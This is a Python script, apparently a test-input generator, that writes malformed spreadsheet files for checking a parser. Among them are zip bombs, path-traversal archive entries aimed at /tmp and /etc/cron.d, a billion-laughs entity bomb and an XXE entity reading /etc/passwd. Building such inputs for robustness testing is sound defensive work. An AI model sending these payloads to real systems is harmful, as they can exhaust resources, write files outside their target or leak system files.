"""Makes workbooks that mean harm, with nothing but Python's own library.

Usage: hostile.py OUT KIND
"""

import io
import struct
import sys
import zipfile

target, kind = sys.argv[1:]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def links(*targets):
    inner = "".join(
        f'<Relationship Id="r{i}" Type="{LINKS}/{name}" Target="{place}"/>'
        for i, (name, place) in enumerate(targets, 1))
    return f'<Relationships xmlns="{PACKAGE}">{inner}</Relationships>'


def sheet(rows, head=""):
    return f'{head}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def row(number, *texts):
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in texts)
    return f'<row r="{number}">{cells}</row>'


TABLE = row(1, "id", "track", "title") + row(2, "S1", "open", "T")


def book(parts, names=("S",), extra=()):
    sheets = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="r{i}"/>' for i, name in enumerate(names, 1))
    own = [("worksheet", f"worksheets/sheet{i}.xml") for i in range(1, len(names) + 1)]
    base = {
        "_rels/.rels": links(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml":
            f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": links(*own, *extra),
    }
    return {**base, **parts}


def write(parts, into=target):
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            if callable(text):
                with archive.open(name, "w", force_zip64=True) as part:
                    text(part)
            else:
                archive.writestr(name, text)


def plain():
    return book({"xl/worksheets/sheet1.xml": sheet(TABLE)})


def packed(parts):
    memory = io.BytesIO()
    write(parts, memory)
    return bytearray(memory.getvalue())


def save(data):
    with open(target, "wb") as file:
        file.write(data)


SHARED = ("sharedStrings", "sharedStrings.xml")


def bomb():
    def swell(part):
        part.write(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode())
        blank = b" " * (1 << 20)
        for _ in range(900):
            part.write(blank)
        part.write(b"</sheetData></worksheet>")
    write(book({"xl/worksheets/sheet1.xml": swell}))


def lying_bomb():
    """A part that states one byte and unpacks to 64 MB."""
    parts = book({"xl/worksheets/sheet1.xml": sheet(TABLE + " " * (64 << 20))})
    data = packed(parts)
    name = b"xl/worksheets/sheet1.xml"
    central = data.rfind(name) - 46
    struct.pack_into("<I", data, central + 24, 1)
    local = data.find(name) - 30
    struct.pack_into("<I", data, local + 22, 1)
    save(data)


def overlapping():
    """Two hundred parts that are one and the same."""
    data = packed({**plain(), "xl/big.bin": bytes(range(256)) * 4096})
    end = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", data, end + 10)
    central = bytes(data[start:start + size])
    place = central.rfind(b"xl/big.bin") - 46
    entry = central[place:]
    more = b"".join(entry.replace(b"xl/big.bin", b"xl/%07d" % i) for i in range(200))
    struct.pack_into("<HHII", data, end + 8, count + 200, count + 200, size + len(more), start)
    save(bytes(data[:start]) + central + more + bytes(data[end:]))


def traversal():
    write({**plain(), "../../../../tmp/escaped.txt": "x"})


def absolute():
    write({**plain(), "/etc/cron.d/x": "x"})


def twice():
    data = packed({**plain(), "xl/worksheets/sheet2.xml": sheet(TABLE)})
    save(data.replace(b"xl/worksheets/sheet2.xml", b"xl/worksheets/sheet1.xml"))


def broken_directory():
    data = packed(plain())
    start = data.rfind(b"PK\x01\x02")
    data[start:start + 40] = b"\xff" * 40
    save(data)


def cut():
    data = packed(plain())
    save(data[:len(data) * 2 // 3])


def bad_checksum():
    parts = book({"xl/worksheets/sheet1.xml": sheet(TABLE)})
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_STORED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    save(memory.getvalue().replace(b"<t>T</t>", b"<t>U</t>"))


def many_parts():
    write({**plain(), **{f"xl/p{i}": "" for i in range(60_000)}})


def many_sheets():
    names = [f"s{i}" for i in range(10_000)]
    one = sheet("")
    parts = {f"xl/worksheets/sheet{i}.xml": one for i in range(1, 4_000)}
    write(book(parts, names))


def entities():
    laughs = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    head = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]>'
    write(book({"xl/worksheets/sheet1.xml": sheet(row(1, "id", "&l9;"), head)}))


def outside():
    head = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    write(book({"xl/worksheets/sheet1.xml": sheet(row(1, "id", "&x;"), head)}))


def deep():
    write(book({"xl/worksheets/sheet1.xml": sheet("<a>" * 1_000_000)}))


def shared():
    """Forty million bytes of texts that cells share."""
    def texts(part):
        part.write(f'<sst xmlns="{MAIN}">'.encode())
        for i in range(900_000):
            part.write(b"<si><t>%050d</t></si>" % (i * 7919 % 1_000_003))
        part.write(b"</sst>")
    write(book({
        "xl/worksheets/sheet1.xml": sheet(TABLE), "xl/sharedStrings.xml": texts}, extra=[SHARED]))


def amplified():
    """A text of a hundred kilobytes that half a million cells share."""
    def cells(part):
        part.write(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode())
        part.write(TABLE.encode())
        for i in range(3, 500_000):
            part.write(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>'.encode())
        part.write(b"</sheetData></worksheet>")
    text = "<sst xmlns='%s'><si><t>%s</t></si></sst>" % (MAIN, "x" * 100_000)
    write(book({
        "xl/worksheets/sheet1.xml": cells, "xl/sharedStrings.xml": text}, extra=[SHARED]))


def wide():
    cells = "".join(f'<c t="inlineStr"><is><t>c{i}</t></is></c>' for i in range(400_000))
    write(book({"xl/worksheets/sheet1.xml": sheet(f"<row>{cells}</row>")}))


def numbers():
    bad = ["1e999999999", "9" * 500_000, "--5", "NaN", "1e-9999"]
    cells = "".join(f"<c><v>{number}</v></c>" for number in bad)
    rows = row(1, "id", "track", "title", "field:a", "field:b")
    write(book({"xl/worksheets/sheet1.xml": sheet(rows + f'<row r="2">{cells}</row>')}))


def no_workbook():
    write({"word/document.xml": "<w/>"})


def old():
    save(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))


globals()[kind]()
